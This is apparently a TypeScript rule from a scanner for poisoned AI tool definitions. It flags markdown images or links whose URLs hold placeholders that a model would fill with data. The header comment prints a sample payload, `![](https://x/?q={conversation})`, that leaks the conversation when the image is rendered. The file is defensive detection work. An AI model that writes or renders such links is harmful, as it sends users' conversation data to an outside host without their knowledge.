// exfiltration-link: a markdown image or link in tool text whose URL carries a placeholder the model
// is meant to fill with data (`![](https://x/?q={conversation})`): rendering the image sends it.

import { analyzeTool } from '../../text/tool/analyze.js';
import { judgeLinks } from '../../text/tool/params.js';
import { reportJudgements } from '../poison/report.js';
import type { Rule } from './types.js';

export const exfiltrationLink: Rule = {
  id: 'exfiltration-link',
  meta: {
    severity: 'high',
    description:
      'A markdown image or link in tool text has a URL with placeholders for data the model would fill in.',
    docs: 'docs/rules/exfiltration-link.md',
    messages: {
      image:
        'Tool text in {{field}} has an image URL with data placeholders ({{placeholders}}): rendering it sends the data.',
      link: 'Tool text in {{field}} has a link URL with data placeholders ({{placeholders}}).',
    },
  },
  check(ctx) {
    reportJudgements(ctx, judgeLinks(analyzeTool(ctx.tool)));
  },
};
